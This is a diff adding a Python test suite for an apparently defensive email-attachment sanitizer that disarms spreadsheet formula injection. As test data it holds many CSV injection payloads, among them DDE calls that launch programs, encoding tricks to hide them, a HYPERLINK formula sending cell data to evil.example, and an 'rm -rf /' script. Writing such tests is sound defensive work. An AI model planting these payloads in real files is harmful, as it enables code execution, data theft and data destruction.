@@ -1,0 +1,150 @@
+"""Text stays, formulas that start programs become text, scripts are refused."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from mailguard.formats.detect import detect
+from mailguard.formats.disarmed import Options, Refused
+from mailguard.formats.text import disarm as text
+from mailguard.message.content import Content
+
+CELLS = {
+    "call": b"=cmd|'/c calc'!A1",
+    "call in quotes": b"\"=2+5+cmd|' /C calc'!A0\"",
+    "call behind a function": b"@SUM(1+1)*cmd|'/c calc'!A0",
+    "call behind a plus": b"+cmd|'/c calc'!A0",
+    "call with a semicolon": b"=cmd|' /C calc;x'!A0",
+    "call with a tab": b"=cmd|' /C\tcalc'!A0",
+    "call behind blanks": b" " * 30 + b"=cmd|'/c calc'!A0",
+    "call of Excel": b" =MSEXCEL|'\\..\\calc.exe'!''",
+}
+READINGS = {
+    "long call": b"a,=cmd|' /C " + b"x" * 3000 + b"'!A0,b",
+    "call behind a hard blank": b"a,\xc2\xa0=cmd|'/c calc'!A0",
+    "call behind a chosen separator": b"sep=^\r\na^=cmd|'/c calc'!A0^b",
+    "wide equals sign": "a,\uff1dcmd|'/c calc'!A0".encode(),
+    "wide equals sign in Shift_JIS": "\u30a2,\uff1dcmd|'/c calc'!A0".encode("cp932"),
+    "call behind a vertical tab": b"a,\x0b=cmd|'/c calc'!A0",
+    "call with a blank": b"=cmd |'/c calc'!A0",
+    "call over lines": b"\"=cmd|'/c\ncalc'!A0\"",
+    "function behind quotes": b'"=IF(1,"")"",WEBSERVICE(A1))"',
+    "function behind a semicolon": b'=IF(A1;WEBSERVICE("x"))',
+    "function behind a decimal comma": b'=1,5+WEBSERVICE("x")',
+    "call behind a byte order mark": b"\xef\xbb\xbf=cmd|'/c calc'!A0",
+}
+OUTSIDE = {
+    "link": b'=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "web service": b'=WEBSERVICE("http://evil.example")',
+    "import": b'=IMPORTXML("x","y")',
+}
+WIDE = "\ufeffa\t=cmd|'/c calc'!A1".encode("utf-16-le")
+THREATS = {name: b"a," + cell + b",c\n" for name, cell in CELLS.items()} | READINGS | OUTSIDE | {"call in UTF-16": WIDE}
+"""Name: a table with a formula that acts."""
+
+
+def _disarm(content, mime="text/csv"):
+    return text.disarm(content, mime, Options())
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"a,b\r\n1,-5\r\n+81-3-1234,=1+2\r\n",
+        b'="00123",=SUM(A1:A5)',
+        b"- item (x), @name",
+        b"-1.5e-05,+2E10\r\n" * 300_000,
+        "名前,金額\n山田,100\n".encode("cp932"),
+    ],
+)
+def test_ordinary_tables_stay_as_they_are(content):
+    assert _disarm(content).data is content
+
+
+@pytest.mark.parametrize("cell", CELLS.values(), ids=CELLS)
+def test_calls_of_programs_become_text(cell):
+    content = b"a," + cell + b",c\n"
+    assert "dde" in detect(Content.of(content), ["a.csv"], "text/csv").dangerous
+    result = _disarm(content)
+    assert result.removed == ("formula",)
+    assert result.data.startswith(b"a,")
+    assert detect(Content.of(result.data), ["a.csv"], "text/csv").dangerous == ()
+    assert _disarm(result.data).data is result.data
+
+
+@pytest.mark.parametrize("content", READINGS.values(), ids=READINGS)
+def test_calls_are_found_in_every_way_of_reading_a_table(content):
+    assert {"dde", "formula"}.intersection(detect(Content.of(content), ["a.csv"], "text/csv").dangerous)
+    result = _disarm(content)
+    assert result.removed == ("formula",)
+    assert result.data.count(b"(formula) ") == 1
+    assert result.data.replace(b"(formula) ", b"") == content
+    assert _disarm(result.data).data is result.data
+
+
+def test_a_table_that_chooses_an_odd_separator_is_refused():
+    with pytest.raises(Refused, match="ambiguous"):
+        _disarm(b"sep=x\r\naxcx=cmd|'/c calc'!A0x")
+
+
+def test_plain_text_with_the_name_of_a_table_is_read_as_one():
+    content = b"=cmd|'/c calc'!A0"
+    assert text.disarm(content, "text/plain", Options(names=("a.txt",))).data is content
+    assert text.disarm(content, "text/plain", Options(names=("a.DIF",))).removed == ("formula",)
+
+
+@pytest.mark.parametrize("content", [b"=," * 2_000_000, b"=(," * 1_000_000, b"-a(," * 1_000_000])
+def test_too_many_formulas_are_refused(content):
+    with pytest.raises(Refused, match="over-limit"):
+        _disarm(content)
+
+
+@pytest.mark.parametrize("cell", OUTSIDE.values(), ids=OUTSIDE)
+def test_formulas_that_reach_out_become_text(cell):
+    assert detect(Content.of(cell), ["a.csv"], "text/csv").dangerous == ("formula",)
+    assert _disarm(cell).data == b"(formula) " + cell
+
+
+def test_a_formula_far_behind_the_begin_of_a_table_is_found():
+    for rows in range(0, 300_000, 37_123):
+        content = "x;\r\n".encode("utf-16-le") * (rows // 8) + "\uff1dcmd|'/c calc'!A1\r\n".encode("utf-16-le")
+        assert detect(Content.of(b"\xff\xfe" + content), ["a.csv"], "text/csv").dangerous == ("dde",)
+
+
+def test_utf_16_tables_are_read_as_such():
+    assert detect(Content.of(WIDE), ["a.csv"], "text/csv").dangerous == ("dde",)
+    result = _disarm(WIDE)
+    assert result.data.decode("utf-16") == "a\t(formula) =cmd|'/c calc'!A1"
+
+
+@pytest.mark.parametrize("content", [b"#!/bin/sh\nrm -rf /", b"[InternetShortcut]\nURL=file:x", b"a\0b"])
+def test_scripts_and_binaries_are_refused(content):
+    with pytest.raises(Refused, match="not-understood"):
+        _disarm(content, "text/plain")
+
+
+def test_a_page_under_the_label_of_text_is_refused():
+    with pytest.raises(Refused, match="ambiguous"):
+        _disarm(b"<html><script>x</script>", "text/plain")
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            [b"=", b"+", b"cmd|'", b"'!A", b",", b'"', b"\n", b"(", b")", b"x", b"SUM", b"\0", b"\xff\xfe"]
+        ),
+        max_size=40,
+    ).map(b"".join)
+)
+@example(b"+\"cmd|''!A")
+def test_detection_and_sanitizing_agree_about_any_table(content):
+    dangerous = detect(Content.of(content), ["a.csv"], "text/csv").dangerous
+    try:
+        result = _disarm(content)
+    except Refused:
+        return
+    assert bool(dangerous) == bool(result.removed)
+    assert detect(Content.of(result.data), ["a.csv"], "text/csv").dangerous == ()
